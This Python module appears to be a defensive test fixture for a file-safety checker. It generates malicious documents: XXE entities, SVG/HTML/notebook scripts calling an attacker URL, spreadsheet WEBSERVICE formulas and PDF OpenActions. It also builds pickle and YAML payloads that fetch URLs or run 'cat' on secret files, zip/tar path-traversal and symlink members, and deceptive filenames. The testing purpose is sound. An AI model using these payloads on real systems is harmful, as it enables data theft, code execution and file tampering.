"""Files that reach: outside, for what lies beside, and for places where they may not write."""

import io
import json
import pickle
import stat
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

import numpy as np

from escape.checker_files import (
    SAFE_ROWS,
    Aim,
    Goal,
    Hostile,
    drawing,
    notebook,
    page,
    paper,
    pickled,
    shown,
    tarred,
    workbook,
    zipped,
)

Make = Callable[[Aim], bytes]


def reaching() -> list[Hostile]:
    """All of them."""
    groups: tuple[tuple[str, Goal, dict[str, tuple[str, str, Make]]], ...] = (
        ("calls out", Goal.CALL, {**_XML_CALLS, **_CALLS}),
        ("runs", Goal.RUN, _CODE),
        ("reads", Goal.SECRET, _SECRETS),
        ("writes", Goal.WRITE, _WRITES),
    )
    return [Hostile(f"{g}: {n}", p, r, goal, make) for g, goal, found in groups for n, (p, r, make) in found.items()]


def _doctype(inside: str) -> str:
    return f"<!DOCTYPE r [{inside}]>"


def _svg(text: str) -> Make:
    """A drawing with `{url}` and `{word}` filled in; what stands before `|` comes before the drawing."""

    def make(aim: Aim) -> bytes:
        before, _, inside = text.rpartition("|")
        return drawing(
            inside.replace("{url}", aim.url), before.replace("{url}", aim.url).replace("{file}", f"file://{aim.secret}")
        )

    return make


def _page(text: str) -> Make:
    return lambda aim: page(text.replace("{url}", aim.url))


def _html(text: str) -> Make:
    return lambda aim: notebook(shown(text__html=text.replace("{url}", aim.url)))


def _md(text: str) -> Make:
    return lambda aim: f"# Results\n\nAll is well.\n\n{text}\n".replace("{url}", aim.url).encode()


def _pdf(objects: str, root: str = "", page: str = "") -> Make:
    return lambda aim: paper(
        *(t.replace("{url}", aim.url) for t in (objects,)),
        root=root.replace("{url}", aim.url),
        page=page.replace("{url}", aim.url),
    )


def _xlsx(cells: str, *more: tuple[str, str], **parts: str) -> Make:
    return lambda aim: workbook(
        cells.replace("{url}", aim.url), *((n, t.replace("{url}", aim.url)) for n, t in more), **parts
    )


_REL = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="{kind}" Target="{url}" TargetMode="External"/></Relationships>'


def _docx(*more: tuple[str, str], inside: str = "", before: str = "") -> Make:
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'{before}<w:document xmlns:w="{name}"><w:body><w:p><w:r><w:t>246 women{inside}</w:t></w:r></w:p></w:body></w:document>'
    return lambda aim: zipped(
        ("[Content_Types].xml", "<Types/>"), ("word/document.xml", body.replace("{url}", aim.url).replace("{file}", f"file://{aim.secret}")),
        *((n, t.replace("{url}", aim.url)) for n, t in more))  # fmt: skip


_XML_CALLS: dict[str, tuple[str, str, Make]] = {
    "an outer entity of a drawing": ("a.svg", "xml", _svg('<!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]>|<text>&x;</text>')),
    "an outer part of a drawing's rules": ("b.svg", "xml", _svg('<!DOCTYPE svg SYSTEM "{url}">|<text>x</text>')),
    "an entity of entities": ("c.svg", "xml", _svg('<!DOCTYPE r [<!ENTITY % x SYSTEM "{url}"> %x;]>|<text>x</text>')),
    "an inclusion in a drawing": ("d.svg", "xml", _svg('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>')),
    "an outer entity of a workbook": ("a.xlsx", "xml", lambda a: workbook(SAFE_ROWS + "<row><c><v>&x;</v></c></row>",
        before=f'<!DOCTYPE r [<!ENTITY x SYSTEM "{a.url}">]>')),
    "an outer entity of a document": ("a.docx", "xml", _docx(inside="&x;", before='<!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]>')),
}  # fmt: skip

_CALLS: dict[str, tuple[str, str, Make]] = {
    "a drawing's picture": ("e.svg", "browser", _svg('<image href="{url}" width="9" height="9"/>')),
    "a drawing's picture by its old name": ("f.svg", "browser", _svg('<image xlink:href="{url}" width="9" height="9"/>')),
    "a drawing's style": ("g.svg", "browser", _svg("<style>@import url({url});</style>")),
    "a drawing's sheet of style": ("h.svg", "browser", _svg('<?xml-stylesheet href="{url}" type="text/css"?>|<g/>')),
    "a drawing's script": ("i.svg", "browser", _svg("<script>fetch('{url}')</script>")),
    "a drawing's handler": ("j.svg", "browser", _svg("<g onload=\"fetch('{url}')\"><rect width='5' height='5'/></g>")),
    "a drawing's foreign page": ("k.svg", "browser", _svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject>')),
    "a drawing's use of another": ("l.svg", "browser", _svg('<use href="{url}#x"/>')),
    "a drawing's animation of an address": ("m.svg", "browser", _svg('<a><set attributeName="href" to="{url}"/><text>x</text></a>')),
    "a drawing's fill from elsewhere": ("n.svg", "browser", _svg('<rect width="9" height="9" fill="url({url}#x)"/>')),
    "a drawing's font from elsewhere": ("o.svg", "browser", _svg("<style>@font-face{font-family:x;src:url({url})}</style>")),
    "a page's script": ("a.html", "browser", _page("<script>fetch('{url}')</script>")),
    "a page's script from elsewhere": ("b.html", "browser", _page('<script src="{url}"></script>')),
    "a page's picture": ("c.html", "browser", _page('<img src="{url}">')),
    "a page's handler": ("d.html", "browser", _page("<p onmouseover=\"fetch('{url}')\">x</p>")),
    "a page in the page": ("e.html", "browser", _page('<iframe src="{url}"></iframe>')),
    "a page within an attribute": ("f.html", "browser", _page('<iframe srcdoc="&lt;img src={url}&gt;"></iframe>')),
    "a page that goes elsewhere": ("g.html", "browser", _page('<meta http-equiv="refresh" content="0;url={url}">')),
    "a page's form": ("h.html", "browser", _page('<form action="{url}"><button>Go</button></form>')),
    "a page's base": ("i.html", "browser", _page('<base href="{url}">')),
    "a page's object": ("j.html", "browser", _page('<object data="{url}"></object>')),
    "a page's link that is loaded first": ("k.html", "browser", _page('<link rel="preload" as="image" href="{url}">')),
    "a page's style on a cell": ("l.html", "browser", _page('<table><tr><td style="background:url({url})">246</td></tr></table>')),
    "an output's script": ("a.ipynb", "browser", _html("<script>fetch('{url}')</script>")),
    "an output's picture": ("b.ipynb", "browser", _html('<p>x</p><img src="{url}">')),
    "an output's handler": ("c.ipynb", "browser", _html("<b onclick=\"fetch('{url}')\">246</b>")),
    "an output of JavaScript": ("d.ipynb", "browser", lambda a: notebook(shown(application__javascript=f"fetch('{a.url}')"))),
    "an output that is a drawing": ("e.ipynb", "browser", lambda a: notebook(shown(**{"image/svg+xml": drawing(f"<script>fetch('{a.url}')</script>").decode()}))),
    "an output of another program": ("f.ipynb", "browser", lambda a: notebook(shown(**{"application/vnd.x+json": {"url": a.url}}))),
    "a picture in the text of a notebook": ("g.ipynb", "browser", lambda a: notebook(source=f"![x]({a.url})", kind="markdown")),
    "a page in the text of a notebook": ("h.ipynb", "browser", lambda a: notebook(source=f"<img src='{a.url}'>", kind="markdown")),
    "the settings of a notebook": ("i.ipynb", "browser", lambda a: notebook(widgets={"state": a.url})),
    "a picture in a text": ("a.md", "markdown", _md("![x]({url})")),
    "a picture in a text by a name": ("b.md", "markdown", _md("![x][y]\n\n[y]: {url}")),
    "a page in a text": ("c.md", "markdown", _md("<img src='{url}'>")),
    "a script in a text": ("d.md", "markdown", _md("<script>fetch('{url}')</script>")),
    "a workbook's call of the web": ("b.xlsx", "browser", _xlsx(SAFE_ROWS + '<row r="3"><c r="A3" t="str"><f>WEBSERVICE("{url}")</f><v>1</v></c></row>')),
    "a workbook's picture by a formula": ("c.xlsx", "browser", _xlsx(SAFE_ROWS + '<row r="3"><c r="A3" t="str"><f>IMAGE("{url}")</f><v>1</v></c></row>')),
    "a workbook's other workbook": ("d.xlsx", "browser", _xlsx(SAFE_ROWS, ("xl/externalLinks/_rels/externalLink1.xml.rels", _REL))),
    "a workbook's connection": ("e.xlsx", "browser", _xlsx(SAFE_ROWS, ("xl/connections.xml", '<connections><connection><webPr url="{url}"/></connection></connections>'))),
    "a document's template": ("b.docx", "browser", _docx(("word/_rels/settings.xml.rels", _REL))),
    "a document's picture from elsewhere": ("c.docx", "browser", _docx(("word/_rels/document.xml.rels", _REL))),
    "a document's field": ("d.docx", "browser", _docx(("word/footnotes.xml", "<w>INCLUDEPICTURE {url}</w>"))),
    "a paper's script": ("a.pdf", "browser", _pdf("", root="/OpenAction<</S/JavaScript/JS(app.launchURL\\('{url}'\\))>>")),
    "a paper's address at opening": ("b.pdf", "browser", _pdf("", root="/OpenAction<</S/URI/URI({url})>>")),
    "a paper's form": ("c.pdf", "browser", _pdf("", root="/OpenAction<</S/SubmitForm/F<</FS/URL/F({url})>>>>")),
    "a paper's other paper": ("d.pdf", "browser", _pdf("", root="/OpenAction<</S/GoToR/F({url})>>")),
    "a paper's note": ("e.pdf", "browser", _pdf("", page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({url})>>>>]")),
    "a paper's stream from elsewhere": ("f.pdf", "browser", _pdf("5 0 obj\n<</Length 0/F<</FS/URL/F({url})>>>>stream\n\nendstream\nendobj")),
    "a zip of a page": ("a.zip", "browser", lambda a: zipped(("a.html", page(f"<script>fetch('{a.url}')</script>")))),
    "a plot's own settings": ("n.html", "browser", _page('<script type="application/vnd.vega.v5+json">{"data":{"url":"{url}"}}</script>')),
}  # fmt: skip


def _array(aim: Aim) -> bytes:
    """An array of objects, one of which calls out when it is loaded."""
    out = io.BytesIO()
    np.save(out, np.array([0], dtype=object), allow_pickle=True)
    data = out.getvalue()
    return data[: data.index(b"\n") + 1] + pickled(aim)


def _skops(aim: Aim) -> bytes:
    schema = {"__module__": "urllib.request", "__class__": "urlopen", "__loader__": "ObjectNode", "args": [aim.url]}
    return zipped(("schema.json", json.dumps(schema)))


def _text_pickle(aim: Aim) -> bytes:
    return b"curllib.request\nurlopen\n(V" + aim.url.encode() + b"\ntR."


_CODE: dict[str, tuple[str, str, Make]] = {
    "a pickle": ("m.pkl", "unpickle", pickled),
    "a pickle of the oldest form": ("m0.pkl", "unpickle", _text_pickle),
    "a pickle of the second form": ("m2.pickle", "unpickle", partial(pickled, protocol=2)),
    "a pickle under another name": ("results.csv", "unpickle", pickled),
    "a pickle as a text": ("notes.txt", "unpickle", _text_pickle),
    "a pickle in joblib's form": ("m.joblib", "unpickle", lambda a: zlib.compress(pickled(a))),
    "a pickle in PyTorch's form": ("m.pt", "unpickle", lambda a: zipped(("m/data.pkl", pickled(a, 2)), ("m/version", "3"))),
    "a pickle in a plain zip": ("t.zip", "unpickle", lambda a: zipped(("a/data.pkl", pickled(a)), ("t.csv", "n\n246\n"))),
    "an array of objects": ("a.npy", "array", _array),
    "a model in skops' form that names any function": ("m.skops", "skops", _skops),
    "a text in YAML that makes objects": ("a.yaml", "unyaml", lambda a: f"!!python/object/apply:urllib.request.urlopen ['{a.url}']\n".encode()),
    "a text in YAML under another name": ("b.txt", "unyaml", lambda a: f"- !!python/object/apply:urllib.request.urlopen ['{a.url}']\n".encode()),
}  # fmt: skip


def _onnx(aim: Aim) -> bytes:
    """A model whose weights lie in another file: of the index of another project."""

    def field(number: int, data: bytes) -> bytes:
        return bytes([number << 3 | 2, len(data)]) + data

    entry = field(1, b"location") + field(2, b"../beta/secret")
    tensor = b"\x08\x03\x10\x01" + field(8, b"w") + field(13, entry) + b"\x70\x01"
    graph = field(2, b"g") + field(5, tensor)
    return b"\x08\x08" + field(2, b"pytorch") + b"\x3a" + bytes([len(graph)]) + graph


_SECRETS: dict[str, tuple[str, str, Make]] = {
    "another's index by an entity": ("s.svg", "xml", _svg('<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>|<text>&x;</text>')),
    "another's index by an inclusion": ("t.svg", "xml", lambda a: drawing(f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{a.secret}" parse="text"/>')),
    "another's index by an entity of a workbook": ("s.xlsx", "xml", lambda a: workbook(SAFE_ROWS + "<row><c><v>&x;</v></c></row>",
        before=f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{a.secret}">]>')),
    "another's index by an entity of a document": ("s.docx", "xml", _docx(inside="&x;", before='<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>')),
    "another's index by an entity's own path": ("u.svg", "xml", lambda a: drawing("<text>&x;</text>", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{a.secret}">]>')),
    "another's index as the weights of a model": ("m.onnx", "outer", _onnx),
    "another's index by a pickle": ("r.pkl", "unpickle", lambda a: pickle.dumps(_Reads(a.secret))),
    "another's index by a text in YAML": ("r.yaml", "unyaml", lambda a: f"!!python/object/apply:subprocess.getoutput ['cat {a.secret}']\n".encode()),
}  # fmt: skip


class _Reads:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        import subprocess

        return subprocess.getoutput, (f"cat {self.path}",)


RESULTS = "/srv/ecluse/spool/results"


def _member(name: str) -> Make:
    return lambda aim: zipped((name.replace("WORD", aim.word), "n\n246\n"), ("t.csv", "n\n246\n"))


def _link(target: str) -> Make:
    """A link, and a member behind it."""

    def make(aim: Aim) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            entry = zipfile.ZipInfo("t.csv" if "/" not in target else f"l-{aim.word}")
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
            archive.writestr(f"l-{aim.word}/{aim.word}", "n\n246\n")
        return out.getvalue()

    return make


def _tar(name: str, link: str = "") -> Make:
    return lambda aim: tarred(name.replace("WORD", aim.word), b"n\n246\n", link)


def _named(_: Aim) -> bytes:
    return b"n\n246\n"


_WRITES: dict[str, tuple[str, str, Make]] = {
    "a member that climbs": ("w1.zip", "extract", _member("../../../tmp/WORD")),
    "a member that climbs with the other stroke": ("w2.zip", "extract", _member("..\\..\\..\\tmp\\WORD")),
    "a member with a path from the root": ("w3.zip", "extract", _member("/tmp/WORD")),
    "a member in the answers of others": ("w4.zip", "extract", _member(f"{RESULTS}/WORD/report.json")),
    "a member that climbs from within": ("w5.zip", "extract", _member("a/../../../../tmp/WORD")),
    "a member behind a link": ("w6.zip", "extract", _link("/tmp")),
    "a member behind a link to the answers": ("w7.zip", "extract", _link(RESULTS)),
    "a member of a tar that climbs": ("w8.tar", "untar", _tar("../../../tmp/WORD")),
    "a member of a tar from the root": ("w9.tar", "untar", _tar("/tmp/WORD")),
    "a member of a tar behind a link": ("w10.tar", "untar", _tar("l9/WORD", "/tmp")),
    "a tar as a text": ("w11.txt", "untar", _tar("../../../tmp/WORD")),
    "a name that climbs": ("../../../tmp/WORD", "write", _named),
    "a name from the root": ("/tmp/WORD", "write", _named),
    "a name that climbs from within": ("a/../../../../tmp/WORD.csv", "write", _named),
    "a name with the other stroke": ("..\\..\\..\\tmp\\WORD.csv", "write", _named),
    "a name in the answers of others": (f"../../..{RESULTS}/WORD/report.json", "write", _named),
    "a name of the worker's sign of life": (f"{RESULTS}/.heartbeat-WORD", "write", _named),
    "a name with a new line": ("WORD\nt.csv", "write", _named),
    "a name that a terminal obeys": ("WORD\x1b[2Kt.csv", "write", _named),
    "a name written from right to left": ("WORD\u202evsc.exe", "write", _named),
    "a name that is only a point": ("WORD/./t.csv", "write", _named),
    "a name with an invisible letter": ("WORD\u200bt.csv", "write", _named),
}  # fmt: skip
